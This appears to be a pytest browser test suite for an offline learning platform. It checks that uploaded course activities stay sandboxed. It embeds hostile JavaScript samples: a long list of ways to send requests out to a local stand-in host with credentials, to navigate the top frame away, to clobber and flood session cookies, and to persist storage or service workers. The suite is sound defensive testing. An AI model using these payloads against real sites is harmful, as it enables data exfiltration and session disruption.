"""Hostile activities in a real browser: they reach no one, leave nothing behind, and lock nobody out."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from pathlib import Path
from threading import Thread
from typing import Any, Final

import pytest
from activities import H5P_FILES, activity_course, installed, players
from test_node_pages import PHONE, SITI, enter_new_pin
from test_players import opened, progress
from village import made_village

from node.app import create_app
from node.serving import Served
from node.wiring import Node

pytestmark = pytest.mark.browser


class Outside:
    """What stands for the rest of the world: notes whoever knocks. WebRTC isn't tried: it gets through (decision 13)."""

    def __init__(self) -> None:
        self.knocks: list[bytes] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._tcp.getsockname()[1]
        Thread(target=self._answer, daemon=True).start()

    def _answer(self) -> None:
        while True:
            try:
                line, _ = self._tcp.accept()
            except OSError:
                return
            with line:
                self.knocks.append(line.recv(200))
                line.sendall(
                    b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 2\r\n\r\nya"
                )

    def close(self) -> None:
        self._tcp.close()


class Village:
    """A village at which Siti is logged in; `asked` are the requests that the pages got."""

    def __init__(self, chromium: Any, node: Node) -> None:
        app = create_app(node)
        self.asked: list[str] = []
        plain = app.wsgi_app

        def noted(environ: Any, start: Any) -> Any:
            self.asked.append(f"{environ['REQUEST_METHOD']} {environ['PATH_INFO']}")
            return plain(environ, start)

        app.wsgi_app = noted  # type: ignore[method-assign]
        self._server = Served(app, "127.0.0.1", 0, 0)
        self.port = self._server.port
        Thread(target=self._server.run, daemon=True).start()
        self.page = chromium.new_context(viewport=PHONE).new_page()
        self.page.set_default_timeout(6_000)
        self.page.goto(f"http://127.0.0.1:{self.port}")
        enter_new_pin(self.page)

    def close(self) -> None:
        self.page.context.close()
        self._server.close()


@pytest.fixture
def village(tmp_path: Path) -> Iterator[Node]:
    node = made_village(tmp_path, SITI)
    installed(node, players(), tmp_path / "players.lontar")
    yield node
    node.close()


@pytest.fixture
def siti(chromium: Any, village: Node) -> Iterator[Village]:
    made = Village(chromium, village)
    yield made
    made.close()


@pytest.fixture
def outside() -> Iterator[Outside]:
    made = Outside()
    yield made
    made.close()


def hostile(node: Node, tmp_path: Path, script: str, **files: str) -> None:
    page = f'<!doctype html><p id="kata">…</p><script>\n{script}\n</script>'
    named = {f"{name}.js": text for name, text in files.items()} | {"jahat.html": page}
    built = activity_course(tmp_path / "jahat", "scorm", "jahat.html", named)
    installed(node, built, tmp_path / "jahat.lontar")


KNOCKS: Final = """
var jauh = "http://127.0.0.1:LUAR/", utama = "http://127.0.0.1:UTAMA/kemajuan";
function coba(kerja) { try { var r = kerja(); if (r && r.catch) r.catch(function () {}); } catch (e) {} }
function buat(nama, sifat, di) {
  var e = document.createElement(nama);
  for (var k in sifat) e.setAttribute(k, sifat[k]);
  (di || document.body || document.documentElement).appendChild(e); return e;
}
function kirim(alamat, sasaran, cara) {
  var f = buat("form", { action: alamat, method: cara, target: sasaran }); buat("input", { name: "a", value: "b" }, f);
  coba(function () { f.submit(); });
}
function serang() {
[jauh, utama].forEach(function (a) {
  coba(function () { return fetch(a, { mode: "no-cors", credentials: "include" }); });
  coba(function () { return fetch(a, { method: "POST", mode: "no-cors", credentials: "include", body: "x" }); });
  coba(function () { var x = new XMLHttpRequest(); x.open("POST", a); x.send("x"); });
  coba(function () { navigator.sendBeacon(a, "x"); });
  coba(function () { new WebSocket(a.replace("http", "ws")); });
  coba(function () { new EventSource(a); });
  coba(function () { new Image().src = a; });
  coba(function () { new Worker(URL.createObjectURL(new Blob(["importScripts('" + a + "')"]))); });
  coba(function () { new Worker(URL.createObjectURL(new Blob(["fetch('" + a + "', {mode:'no-cors'})"]))); });
  coba(function () { return import(a); });
  buat("script", { src: a }); buat("link", { rel: "stylesheet", href: a }); buat("img", { srcset: a });
  ["prefetch", "preload", "modulepreload", "preconnect", "dns-prefetch", "icon", "manifest", "prerender"].forEach(function (r) {
    buat("link", { rel: r, href: a, as: "image" }, document.head); });
  buat("video", { src: a, poster: a }); buat("audio", { src: a }); buat("object", { data: a }); buat("embed", { src: a });
  buat("iframe", { src: a }); buat("iframe", { srcdoc: "<img src='" + a + "'><meta http-equiv=refresh content='0;url=" + a + "'>" });
  buat("iframe", { src: "data:text/html,<script>fetch('" + a + "',{mode:'no-cors'})<\\/script><img src='" + a + "'>" });
  buat("iframe", { src: "javascript:fetch('" + a + "')" });
  buat("iframe", { name: "lain" }); buat("a", { href: a, ping: a, target: "lain" }).click(); buat("a", { href: a, target: "_top" }).click();
  buat("a", { href: a, target: "_blank" }).click();
  buat("style", {}).textContent = "@import '" + a + "'; body { background: url('" + a + "') }";
  var s = document.createElementNS("http://www.w3.org/2000/svg", "image"); s.setAttribute("href", a);
  buat("svg", {}).appendChild(s);
  ["lain", "_parent", "_top", "_blank"].forEach(function (t) { kirim(a, t, "post"); kirim(a, t, "get"); });
  coba(function () { window.open(a); }); coba(function () { window.top.location = a; });
  coba(function () { window.top.location.replace(a); });
});
}
window.addEventListener("load", function () {
  serang();
  setTimeout(function () { document.getElementById("kata").textContent = "SELESAI"; }, 2500);
});
"""


def test_nothing_that_an_activity_starts_reaches_the_network_or_the_pages(
    village: Node, siti: Village, outside: Outside, tmp_path: Path
) -> None:
    hostile(village, tmp_path, KNOCKS.replace("LUAR", str(outside.port)).replace("UTAMA", str(siti.port)))
    frame = opened(siti.page)
    siti.asked.clear()
    frame.frame_locator("#isi").get_by_text("SELESAI").wait_for()
    assert outside.knocks == []
    assert [one for one in siti.asked if "static" not in one] == []
    assert "/materi/" in siti.page.url and len(siti.page.context.pages) == 1


@pytest.mark.parametrize("whose", ["window", "window.parent"])
@pytest.mark.parametrize("where", ["LUAR", "UTAMA"])
def test_no_frame_of_an_activity_goes_elsewhere(
    village: Node, siti: Village, outside: Outside, tmp_path: Path, whose: str, where: str
) -> None:
    address = f"http://127.0.0.1:{outside.port if where == 'LUAR' else siti.port}/kemajuan"
    hostile(village, tmp_path, f"setTimeout(function () {{ {whose}.location = '{address}'; }}, 1500);")
    frame = opened(siti.page)
    frame.frame_locator("#isi").get_by_text("…").wait_for()
    siti.asked.clear()
    siti.page.wait_for_timeout(2500)
    assert outside.knocks == [] and [one for one in siti.asked if "static" not in one] == []
    # Whoever looks finds the page around it as it was.
    siti.page.get_by_role("link", name="Selesai, kembali ke pelatihan").click()
    siti.page.get_by_role("heading", name="Kuis", level=1).wait_for()


SHADOWS: Final = """
["/", "/pelatihan", "/kemajuan", "/pelatihan/"].forEach(function (p) {
  ["lontar_node=palsu", "lontar_node=", "lang=xx"].forEach(function (k) { document.cookie = k + "; path=" + p + "; max-age=99999999"; });
  for (var i = 0; i < BANYAK; i++) document.cookie = "k" + i + "=" + "x".repeat(4000) + "; path=" + p + "; max-age=99999999";
});
document.getElementById("kata").textContent = "SELESAI";
"""


def test_cookies_that_an_activity_sets_log_nobody_out(village: Node, siti: Village, tmp_path: Path) -> None:
    hostile(village, tmp_path, SHADOWS.replace("BANYAK", "0"))
    opened(siti.page).frame_locator("#isi").get_by_text("SELESAI").wait_for()
    for name in ("Kemajuan", "Pelatihan"):
        siti.page.get_by_role("link", name=name, exact=True).click()
        siti.page.get_by_role("link", name=name, exact=True).wait_for()
    left = [one for one in siti.page.context.cookies() if one["value"] in ("palsu", "")]
    assert {one["path"] for one in left} <= {"/pelatihan/"}, "those of pages that were opened are gone"


def test_a_flood_of_cookies_locks_nobody_out(village: Node, siti: Village, tmp_path: Path) -> None:
    hostile(village, tmp_path, SHADOWS.replace("BANYAK", "150"))
    opened(siti.page).frame_locator("#isi").get_by_text("SELESAI").wait_for()
    # Browsers keep 180 cookies of a host and may forget ours for them: then the PIN is asked once more.
    enter_again(siti)
    siti.page.get_by_role("link", name="Kemajuan", exact=True).click()
    siti.page.get_by_role("link", name="Pelatihan", exact=True).click()
    siti.page.get_by_role("link", name="Kuis", exact=True).wait_for()
    size = sum(len(one["value"]) for one in siti.page.context.cookies(siti.page.url))
    assert size < 16 * 1024


def enter_again(siti: Village) -> None:
    siti.page.context.clear_cookies(name="lontar_node", path="/")
    siti.page.goto(f"http://127.0.0.1:{siti.port}")
    siti.page.get_by_role("link", name="Siti Aminah").click()
    siti.page.get_by_label("PIN", exact=False).fill("482913")
    siti.page.get_by_role("button", name="Masuk").click()
    siti.page.get_by_role("link", name="Kemajuan", exact=True).wait_for()


KEEPS: Final = """
var kata = [];
kata.push("simpanan:" + (localStorage.getItem("rahasia") || "kosong"));
localStorage.setItem("rahasia", location.pathname); sessionStorage.setItem("rahasia", "x");
navigator.serviceWorker.register("pekerja.js").then(function () { kata.push("pekerja:ya"); }, function () { kata.push("pekerja:tidak"); })
.then(function () { return new Promise(function (baik) {
  var o = indexedDB.open("gudang"); o.onupgradeneeded = function () { kata.push("gudang:baru"); };
  o.onsuccess = function () { o.result.close(); baik(); }; o.onerror = baik; }); })
.then(function () { document.getElementById("kata").textContent = "SELESAI " + kata.join(" "); });
"""


def test_an_activity_leaves_nothing_in_the_browser_for_the_next_learner(
    village: Node, siti: Village, tmp_path: Path
) -> None:
    hostile(village, tmp_path, KEEPS, pekerja="self.onfetch = function () {};")
    for _ in range(2):
        content = opened(siti.page).frame_locator("#isi")
        content.get_by_text("SELESAI").wait_for()
        said = content.locator("#kata").inner_text()
        assert "simpanan:kosong" in said and "gudang:baru" in said and "pekerja:tidak" in said
        siti.page.get_by_role("button", name="Bukan saya").click()
        enter_again(siti)


LEAVES: Final = """
var api = window.parent.API;
api.LMSInitialize(""); api.LMSSetValue("cmi.core.score.raw", "70"); api.LMSSetValue("cmi.core.lesson_status", "passed");
window.addEventListener("pagehide", function () { api.LMSFinish(""); });
document.getElementById("kata").textContent = "SIAP";
"""


def test_a_course_that_ends_only_when_its_page_is_left_keeps_its_score(
    village: Node, siti: Village, tmp_path: Path
) -> None:
    """What most tools do. Browsers let no ordinary request out of a page that is closing."""
    hostile(village, tmp_path, LEAVES)
    opened(siti.page).frame_locator("#isi").get_by_text("SIAP").wait_for()
    siti.page.get_by_role("link", name="Selesai, kembali ke pelatihan").click()
    siti.page.get_by_role("heading", name="Kuis", level=1).wait_for()
    assert "70" in progress(siti.page)


LARGE: Final = """
var api = window.parent.API_1484_11, kata = document.getElementById("kata");
api.Initialize("");
kata.textContent = "LAMA " + api.GetValue("cmi.suspend_data").length;
if (!api.GetValue("cmi.suspend_data")) {
  api.SetValue("cmi.suspend_data", "x".repeat(64000));
  for (var i = 0; i < 30; i++) {
    var t = "cmi.interactions." + i + ".";
    api.SetValue(t + "id", "soal-" + i); api.SetValue(t + "type", "long-fill-in");
    api.SetValue(t + "learner_response", "y".repeat(3000)); api.SetValue(t + "result", "correct");
  }
  api.SetValue("cmi.score.scaled", "0.55"); api.SetValue("cmi.completion_status", "completed");
  api.SetValue("cmi.exit", "suspend");
  kata.textContent += " TUTUP " + api.Terminate("");
}
"""


def test_more_than_a_beacon_carries_is_kept_and_found_again(
    village: Node, siti: Village, tmp_path: Path
) -> None:
    hostile(village, tmp_path, LARGE)
    opened(siti.page).frame_locator("#isi").get_by_text("TUTUP").wait_for()
    assert "55" in progress(siti.page)
    opened(siti.page).frame_locator("#isi").get_by_text("LAMA 64000").wait_for()


def test_a_result_that_the_network_lost_is_sent_again(village: Node, siti: Village, tmp_path: Path) -> None:
    """A phone at the edge of the hotspot: the only `completed` of a task must not be gone for good."""
    installed(village, activity_course(tmp_path / "k", "h5p", "h5p.json", H5P_FILES), tmp_path / "k.lontar")
    lost: list[str] = []

    def lose_three(route: Any) -> None:
        if len(lost) < 3:
            lost.append(route.request.post_data)
            route.abort()
        else:
            route.continue_()

    siti.page.route("**/hasil/h5p", lose_three)
    frame = opened(siti.page)
    frame.frame_locator("iframe.h5p-iframe").get_by_role("button", name="Ya").click()
    frame.get_by_text("Belum tersimpan").wait_for()
    frame.get_by_text("Tersimpan di perangkat ini · Selesai · Nilai 75").wait_for(timeout=30_000)
    assert len(lost) == 3
